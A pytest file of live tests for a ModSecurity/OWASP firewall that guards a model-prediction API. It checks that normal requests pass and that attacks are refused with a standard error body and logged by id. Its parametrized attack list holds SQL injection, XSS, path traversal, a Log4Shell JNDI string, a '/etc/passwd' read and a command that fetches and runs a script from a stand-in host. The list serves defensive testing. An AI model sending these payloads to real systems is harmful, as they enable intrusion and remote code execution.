"""ModSecurity with the OWASP core rule set in front: attacks refused, predictions not."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from live_servers import CHECKOUT
from live_serving import until

if TYPE_CHECKING:
    from collections.abc import Callable

    from conftest import Servers
    from live_servers import Answer, Edge, Gunicorn

pytestmark = pytest.mark.live

MODULE = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so"
RULES = "/usr/share/modsecurity-crs/owasp-crs.load"
INSTALL = "apt-get install libnginx-mod-http-modsecurity modsecurity-crs"
ROW = [17.99, 10.38, 122.8, 1001.0, 0.1184, -0.2776]


@pytest.fixture(scope="module")
def walled(servers: Servers, gunicorn: Gunicorn, package: Callable[[str, str], None]) -> Edge:
    """Nginx as waf/README.md says."""
    package(MODULE, INSTALL)
    package(RULES, INSTALL)
    process = servers.edge(gunicorn, start=False).folder / "deploy/nginx/process.conf"
    waf = (CHECKOUT / "deploy/nginx/waf/waf.conf").read_text("utf-8")
    assert " /etc/nginx/deploy/" in waf
    waf = waf.replace("/etc/nginx/", f"{CHECKOUT}/")
    load = f"load_module {MODULE};\n{process.read_text('utf-8')}"
    return servers.edge(gunicorn, sites={"process": load, "waf": waf})


def predict(edge: Edge, body: Any) -> Answer:
    headers = [("Content-Type", "application/json"), ("Accept", "*/*"), ("User-Agent", "client")]
    sent = body if isinstance(body, bytes) else json.dumps(body).encode()
    return edge.ask("POST", "/v1/models/m/predict", headers, sent)


@pytest.mark.parametrize("rows", [[ROW], [ROW] * 100, [{"income": 1.5, "note": "from O'Neill"}]])
def test_a_normal_question_passes(walled: Edge, rows: Any) -> None:
    assert predict(walled, {"instances": rows}).status == 200


@pytest.mark.parametrize(
    "attack",
    [
        "1' OR '1'='1",
        "<script>alert(1)</script>",
        "; cat /etc/passwd",
        "$(curl http://evil.example|sh)",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example/x}",
    ],
)
def test_an_attack_is_refused_in_our_words_and_its_id_is_in_both_logs(
    walled: Edge, catalogue: Any, attack: str
) -> None:
    answer = predict(walled, {"instances": [{"note": attack}]})
    body = answer.json()
    identifier = body.pop("id")
    kind = catalogue["request_blocked"]
    assert body == {
        "type": f"urn:secureml:problem:{kind.code}",
        "title": kind.title,
        "status": kind.status,
        "code": kind.code,
    }
    assert answer.status == kind.status
    assert answer.all("Content-Type") == ["application/problem+json"]
    assert answer.all("Strict-Transport-Security") == ["max-age=63072000"]
    assert answer.all("Cache-Control") == ["no-store"]
    for log in ("access.log", "error.log"):
        file = walled.folder / log  # a line is written after its answer was sent
        assert until(lambda file=file: identifier in file.read_text("utf-8")), log


def test_an_attack_in_the_address_is_refused_as_well(walled: Edge) -> None:
    headers = [("Accept", "*/*"), ("User-Agent", "client")]
    asked = "/v1/models?q=1'%20OR%20'1'='1"
    assert walled.ask("GET", asked, headers).json()["code"] == "request_blocked"


def test_what_its_parser_cannot_read_is_not_passed_unseen(walled: Edge) -> None:
    assert predict(walled, b'{"instances": [[1,').json()["code"] == "malformed_request"
    assert predict(walled, b"[" * 50 + b"]" * 50).json()["code"] == "malformed_request"


def test_more_values_than_it_looks_at_are_refused_whole(walled: Edge) -> None:
    many = {"instances": [ROW] * 170 + [["<script>alert(1)</script>"]]}
    assert predict(walled, many).json()["code"] == "body_too_large"


def test_what_a_client_sent_is_not_in_the_error_log(walled: Edge) -> None:
    predict(walled, {"instances": [{"note": "<script>canary-7</script>"}]})
    assert "canary-7" not in (walled.folder / "error.log").read_text("utf-8")
